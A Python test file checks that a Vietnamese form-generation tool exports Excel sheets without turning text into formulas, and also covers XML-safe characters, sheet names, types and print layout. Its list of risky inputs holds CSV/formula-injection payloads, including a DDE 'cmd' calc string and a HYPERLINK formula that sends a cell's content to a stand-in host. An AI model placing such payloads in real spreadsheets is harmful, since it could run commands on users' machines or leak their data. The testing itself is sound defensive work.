"""Excel files: texts stay texts, whatever they begin with."""

from datetime import date
from io import BytesIO
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from documents import mau01
from documents.drawing.excel import PlainTable, draw_tables
from documents.mau01 import Mau01Entry
from documents.progress_sheet import to_xlsx
from documents.vocabulary import INDIVIDUAL
from tests.documents.paper_forms import WARD_HEAD, many_entries, mau01_form

RISKY = (
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=HYPERLINK("http://e.invalid/?"&A1,"x")',
    "- Đạt danh hiệu Lao động tiên tiến",
    "+84912345678",
)
HARMLESS = ("0012345", "Tổ dân phố số 12", "#N/A", "TRUE", "1e5")


def only_sheet(data):
    return load_workbook(BytesIO(data)).worksheets[0]


@pytest.mark.parametrize("text", RISKY)
def test_a_text_that_could_be_a_formula_is_a_quoted_text(text):
    data = to_xlsx("Danh sách", ["Tên"], [(text,)])
    cell = only_sheet(data)["A3"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    with ZipFile(BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("text", HARMLESS)
def test_an_ordinary_text_is_a_plain_text(text):
    cell = only_sheet(to_xlsx("Danh sách", ["Tên"], [(text,)]))["A3"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", False)


def test_risky_names_stand_on_mau01_as_typed():
    entries = [Mau01Entry(INDIVIDUAL, "=1+1", "@SUM(1,1)", "KT")]
    sheet = only_sheet(mau01.to_xlsx([mau01_form(entries)]))
    values = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
    assert values["=1+1"] == "s"
    assert values["@SUM(1,1)"] == "s"
    assert "f" not in values.values()


def test_characters_that_xml_cannot_hold_are_left_out():
    data = to_xlsx("Danh sách", ["Tên"], [("a\x00b\x1f\ud800\ufffec",)])
    assert only_sheet(data)["A3"].value == "abc"


def test_what_excel_would_take_for_an_escape_comes_back_as_written():
    data = to_xlsx("Danh sách", ["Tên"], [("_x0041_",)])
    assert CalamineWorkbook.from_filelike(BytesIO(data)).get_sheet_by_index(0).to_python()[2] == [
        "_x0041_"
    ]


def test_numbers_and_dates_keep_their_types():
    sheet = only_sheet(to_xlsx("Tiến độ", ["TT", "Ngày", "Ghi chú"], [(1, date(2026, 1, 8), None)]))
    assert sheet["A3"].value == 1
    assert sheet["B3"].value.date() == date(2026, 1, 8)
    assert sheet["B3"].number_format == "dd/mm/yyyy"
    assert sheet["C3"].value is None


def test_a_plain_table_has_title_headers_rows_and_repeats_its_head():
    sheet = only_sheet(
        to_xlsx("Tiến độ 2026", ["Đơn vị", "Trạng thái"], [("Chi bộ 12", "Chưa gửi")], widths=(80,))
    )
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["Tiến độ 2026", None],
        ["Đơn vị", "Trạng thái"],
        ["Chi bộ 12", "Chưa gửi"],
    ]
    assert sheet.print_title_rows == "$2:$2"
    assert sheet.freeze_panes == "A3"
    assert sheet.column_dimensions["A"].width > sheet.column_dimensions["B"].width


def test_sheet_names_lose_what_excel_forbids():
    table = PlainTable(
        name="Cấp: xã/phường [và tương đương]?*\\ 2026", title="", headers=(), rows=()
    )
    name = only_sheet(draw_tables("", [table])).title
    assert not set(name) & set("[]:*?/\\")
    assert len(name) <= 31


def test_looks_are_shared_between_cells():
    data = mau01.to_xlsx([mau01_form(many_entries(200))])
    with ZipFile(BytesIO(data)) as archive:
        styles = archive.read("xl/styles.xml").decode()
    assert styles.count("<xf ") < 40


def test_the_printed_form_is_one_page_wide_with_its_head_repeated():
    sheet = only_sheet(mau01.to_xlsx([mau01_form(letterhead=WARD_HEAD)]))
    assert sheet.page_setup.orientation == "landscape"
    assert (sheet.page_setup.paperSize, sheet.page_setup.fitToWidth) == (9, 1)
    assert sheet.page_setup.fitToHeight == 0
    first, last = (int(row) for row in sheet.print_title_rows.replace("$", "").split(":"))
    assert sheet.cell(first, 1).value == "TT"
    assert sheet.cell(last, 3).value == "Lĩnh vực kinh tế"
    assert round(sheet.page_margins.left * 25.4) == 30
    assert sheet.HeaderFooter.oddHeader.center.text == "&P"
    assert sheet.HeaderFooter.differentFirst


def test_rows_are_tall_enough_for_their_text():
    long_name = "Tuyến phố văn minh, không rác thải, không lấn chiếm vỉa hè " * 4
    sheet = only_sheet(
        mau01.to_xlsx([mau01_form([Mau01Entry(INDIVIDUAL, "Bà Mai", long_name, "KT")])])
    )
    heights = {sheet.cell(row, 2).value: sheet.row_dimensions[row].height for row in range(8, 14)}
    assert heights["Bà Mai"] > 5 * heights["Cá nhân"]
